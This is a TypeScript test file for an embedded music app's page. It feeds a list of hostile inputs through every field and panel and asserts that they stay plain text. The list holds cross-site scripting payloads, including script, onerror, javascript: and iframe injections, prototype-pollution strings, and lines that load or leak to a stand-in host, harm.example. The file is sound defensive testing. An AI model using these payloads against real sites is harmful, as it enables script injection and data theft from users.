import { assertEquals, assertMatch } from "@std/assert";
import type { HostedPage } from "./host/page.ts";
import { openBrowser, sentTexts, testHosted, testInBrowser } from "./host/test_page.ts";
import { withPolicy } from "./host/page.ts";

/** Texts of people who mean harm, or of models that copied them; each would leave a trace if it did anything. */
const HOSTILE: readonly string[] = [
  `<script>globalThis.harmed = 1; alert(1)</script>`,
  `<img src=x onerror="globalThis.harmed = 1; alert(2)">`,
  `<svg onload="globalThis.harmed = 1"><a href="javascript:alert(3)">x</a></svg>`,
  `"><iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>`,
  `</style><style>* { background: url(https://harm.example/leak) !important }</style>`,
  `</title></textarea></script><script src="https://harm.example/a.js"></script>`,
  `<!--<script>`,
  "javascript:globalThis.harmed=1",
  `[words](javascript:globalThis.harmed=1) ![x](https://harm.example/p.png) <https://harm.example>`,
  `'; globalThis.harmed = 1; //`,
  `{{constructor.constructor('globalThis.harmed=1')()}} \${globalThis.harmed=1}`,
  `\u202Eesrever\u202C \u0000\u0007 \uD800 ${"a\u0301".repeat(300)} ${"👩‍🚀".repeat(60)}`,
  `__proto__`,
  `constructor`,
];

/** Elements that the page is made of. */
const USUAL =
  "html head meta title style body div header h1 h2 h3 h4 p span i b em strong button svg path rect circle g text " +
  "main aside ul ol li section canvas footer input textarea label details summary pre code table thead tbody tr th " +
  "td article del ins progress script";

/** Looks for what must not be there; the page has one script and one style sheet, its own. */
async function findHarm(page: HostedPage): Promise<unknown> {
  return await page.frame().evaluate((usual) => {
    const names = new Set(usual.split(" "));
    const all = [...document.querySelectorAll("*")];
    return {
      harmed: Reflect.get(globalThis, "harmed") ?? null,
      strange: all.map(({ localName }) => localName).filter((name) => !names.has(name)),
      handlers: all.flatMap(({ attributes }) => [...attributes])
        .filter(({ name, value }) =>
          /^on|^src/.test(name) || /^\s*javascript:/i.test(value) && name === "href"
        ).map(({ name }) => name),
      scripts: document.scripts.length,
      styles: document.styleSheets.length,
      polluted: Object.keys(Object.prototype),
    };
  }, USUAL);
}

const HARMLESS = {
  harmed: null,
  strange: [],
  handlers: [],
  scripts: 1,
  styles: 1,
  polluted: [],
};

/** Fails the test when the page opens a dialog, asks the network for anything, or goes elsewhere. */
async function watched(page: HostedPage, work: () => Promise<void>): Promise<void> {
  const seen: string[] = [];
  const dialog = (found: { message(): string; dismiss(): Promise<void> }): void => {
    seen.push(`dialog ${found.message()}`);
    void found.dismiss();
  };
  const request = (found: { url(): string }): void => void seen.push(found.url());
  page.page.on("dialog", dialog).on("request", request);
  await work();
  await page.settle();
  assertEquals(seen, []);
  assertEquals(page.frame().childFrames().length, 0);
  assertEquals(await findHarm(page), HARMLESS);
  page.page.off("dialog", dialog).off("request", request);
}

/** A piece that says hostile texts wherever a piece can say one; the one text where there is room for one only. */
function sayEverywhere(text: string): Record<string, unknown> {
  return {
    title: text,
    bpm: 120,
    key: text,
    timeSignature: text,
    sections: HOSTILE.map((name, index) => ({ name, bar: index + 1, bars: 1 })),
    markers: HOSTILE.map((mark, index) => ({ text: mark, bar: index + 1, beat: 1 })),
    chords: [
      ...HOSTILE.map((symbol, index) => ({ symbol, bar: index + 2 })),
      { symbol: "C", bar: 1 },
    ],
    lyrics: HOSTILE.map((word, index) => ({ text: word, track: 0, bar: index + 1, beat: 1 })),
    tracks: [
      ...HOSTILE.map((name) => ({
        name,
        instrument: name,
        notes: "C5/4 E5 G5 C6 | ".repeat(HOSTILE.length),
        lyrics: name,
      })),
      {
        name: text,
        instrument: "drums",
        notes: [{ pitch: text, beat: 1 }, { pitch: 36, beat: 2 }],
      },
    ],
    [text]: text,
  };
}

/** A quarter of the texts: those that stand where a piece or answer has room for one. */
const SINGLE = HOSTILE.filter((_, index) => index % 4 === 0);

testHosted("hostile texts in a piece stay texts, in every state and panel", async (page) => {
  for (const text of SINGLE) {
    await page.mount();
    const piece = sayEverywhere(text);
    await watched(page, async () => {
      await page.send("partial", { title: text, tracks: [{ name: text, notes: "C5/4 E5" }] });
      await page.settle();
      await page.send("input", piece);
      const checks = HOSTILE.flatMap((code, index) => [
        { code, track: code, bar: 1, detail: code },
        { code, track: `tracks[${index}]`, bar: null, detail: code },
      ]);
      await page.send("result", {
        content: [{ type: "text", text }],
        structuredContent: { title: text, checks, checkTotal: checks.length },
      });
      await page.frame().waitForSelector(".continue");
      await page.frame().locator(".count").click();
      await page.frame().getByRole("button", { name: "Ask to fix this" }).first().click();
      await page.frame().locator("#tab-chord").click();
      await page.frame().getByRole("textbox").fill(text);
      await page.page.keyboard.press("Enter");
      await page.settle();
      await page.frame().locator("#tab-continue").click();
      await page.frame().locator("textarea").fill(text);
      await page.frame().locator("summary").click();
      await page.frame().getByRole("button", { name: "Send to the chat" }).click();
      // Over a note, so that it is read out.
      await page.frame().locator(".roll").hover({ position: { x: 60, y: 120 } });
    });
    await sentTexts(page);
  }
});

testHosted("hostile answers and errors stay texts", async (page) => {
  for (const text of SINGLE) {
    await page.mount();
    await page.page.evaluate((values) => {
      const [value] = values;
      globalThis.host.answers.parse_chord = {
        content: [],
        structuredContent: {
          quality: value,
          notes: value,
          midi: "60 61",
          intervals: value,
          numeral: value,
          bass: value,
          ambiguous: values.map((chord) => ({ chord, habit: chord })),
        },
      };
    }, [text, ...HOSTILE]);
    await watched(page, async () => {
      const outline = { id: text, title: text, key: text, meter: text, bpm: text };
      const tracks = HOSTILE.map((name) => ({ name, instrument: name, notes: 3, drums: null }));
      await page.send("result", { content: [], structuredContent: { ...outline, tracks } });
      await page.frame().getByRole("button", { name: "Chords and theory" }).click();
      await page.frame().locator("#tab-chord").click();
      await page.frame().getByRole("textbox").fill("C");
      await page.page.keyboard.press("Enter");
      await page.frame().waitForSelector(".answer");
    });
    await page.mount();
    await watched(page, async () => {
      await page.send("result", {
        isError: true,
        content: [{ type: "text", text: `${text}\n${HOSTILE.join("\n")}` }],
      });
      await page.frame().waitForSelector(".app[data-phase=failed]");
    });
  }
  await page.page.evaluate(() => void (globalThis.host.answers = {}));
});

testHosted("a hostile document is drawn as words", async (page) => {
  const lines = HOSTILE.flatMap((text) => [
    `# ${text}`,
    "",
    text,
    "",
    `- **${text}** *${text}* \`${text}\``,
    "",
    `| ${text} | b |`,
    "| --- | --- |",
    `| ${text} | [${text}](javascript:alert(1)) |`,
    "",
    "```" + text.replaceAll("\n", " "),
    text,
    "```",
    "",
  ]);
  await page.page.evaluate((text) => {
    globalThis.host.documents = { "music-theory://harmony": text };
  }, lines.join("\n"));
  await watched(page, async () => {
    await page.frame().getByRole("button", { name: "Chords and theory" }).click();
    await page.frame().getByRole("button", { name: /^Harmony/ }).click();
    await page.frame().waitForSelector(".document h2");
    for (const word of await page.frame().locator(".document :text('words')").all()) {
      await word.click();
    }
  });
  assertMatch(await page.frame().locator(".document").innerText(), /<img src=x onerror=/);
});

testInBrowser("a hostile file that is dropped stays text", async () => {
  const { html, browser } = await openBrowser();
  const context = await browser.newContext({ viewport: { width: 1000, height: 700 } });
  const page = await context.newPage();
  const seen: string[] = [];
  page.on("dialog", (found) => {
    seen.push(found.message());
    void found.dismiss();
  });
  page.on("request", (found) => void seen.push(found.url()));
  page.on("pageerror", (error) => void seen.push(String(error)));
  await page.setContent(withPolicy(html));
  for (const text of HOSTILE) {
    for (const content of [text, JSON.stringify(sayEverywhere(text))]) {
      await page.evaluate(([name, body]) => {
        const data = new DataTransfer();
        data.items.add(new File([body], `${name}.json`));
        document.dispatchEvent(new DragEvent("drop", { dataTransfer: data, cancelable: true }));
      }, [text, content]);
      await page.waitForTimeout(30);
    }
  }
  assertEquals(seen, []);
  assertEquals(await page.evaluate(() => Reflect.get(globalThis, "harmed") ?? null), null);
  assertEquals(await page.locator("img, iframe, a, object, embed, link").count(), 0);
  await context.close();
});
